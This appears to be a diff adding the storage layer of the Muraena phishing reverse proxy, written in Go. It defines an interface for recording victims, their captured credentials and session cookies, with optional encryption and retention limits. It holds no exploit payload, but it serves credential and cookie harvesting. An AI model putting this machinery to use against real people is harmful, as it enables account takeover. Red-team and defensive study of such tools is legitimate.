@@ -0,0 +1,93 @@
+package db
+
+import (
+	"fmt"
+	"strings"
+	"time"
+
+	"github.com/muraenateam/muraena/core"
+	"github.com/muraenateam/muraena/session"
+)
+
+// Storage is the persistence backend of the tracking data
+type Storage interface {
+	StoreVictim(v *Victim) error
+	StoreCredential(victimID string, c *VictimCredential) error
+	StoreCookie(victimID string, c *VictimCookie) error
+
+	// GetVictim returns the victim with its credentials and cookies, or an empty Victim if it does not exist
+	GetVictim(victimID string) (*Victim, error)
+	GetCredentials(victimID string) ([]VictimCredential, error)
+	GetCookies(victimID string) ([]VictimCookie, error)
+	// GetVictimIDs returns the IDs of all the victims, in order of appearance
+	GetVictimIDs() ([]string, error)
+
+	SetSessionInstrumented(victimID string) error
+	SetSessionComplete(victimID string, profile string) error
+
+	// DeleteVictim deletes the victim with its credentials and cookies
+	DeleteVictim(victimID string) error
+	// Wipe deletes all the tracking data
+	Wipe() error
+
+	// Ping verifies the connection to the backend
+	Ping() error
+
+	Close() error
+}
+
+// backend is the storage in use, Redis unless configured otherwise
+var backend Storage = &redisStorage{}
+
+// Init opens the storage backend defined in the configuration
+func Init(s *session.Session) (err error) {
+	config := s.Config.Storage
+
+	switch strings.ToLower(config.Type) {
+	case "", "redis":
+		backend = &redisStorage{}
+	case "postgres", "sqlite":
+		backend, err = newSQLStorage(strings.ToLower(config.Type), config.DSN)
+	default:
+		err = fmt.Errorf("unknown storage type %s", config.Type)
+	}
+
+	if err != nil {
+		return
+	}
+
+	sealingKey = nil
+	if config.PublicKey != "" {
+		key, err := core.ParseKey(config.PublicKey)
+		if err != nil {
+			return fmt.Errorf("storage public key: %w", err)
+		}
+		backend = &encryptedStorage{Storage: backend, publicKey: key}
+		sealingKey = key
+	}
+
+	retention := s.Config.Retention
+	if retention.MaxCredentials > 0 || retention.MaxCookies > 0 {
+		backend = &limitedStorage{
+			Storage:        backend,
+			maxCredentials: retention.MaxCredentials,
+			maxCookies:     retention.MaxCookies,
+		}
+	}
+
+	if retention.Days > 0 {
+		go retain(time.Duration(retention.Days)*24*time.Hour, time.Duration(retention.Interval)*time.Minute)
+	}
+
+	return
+}
+
+// Ping verifies the connection to the storage backend
+func Ping() error {
+	return backend.Ping()
+}
+
+// Close closes the storage backend
+func Close() error {
+	return backend.Close()
+}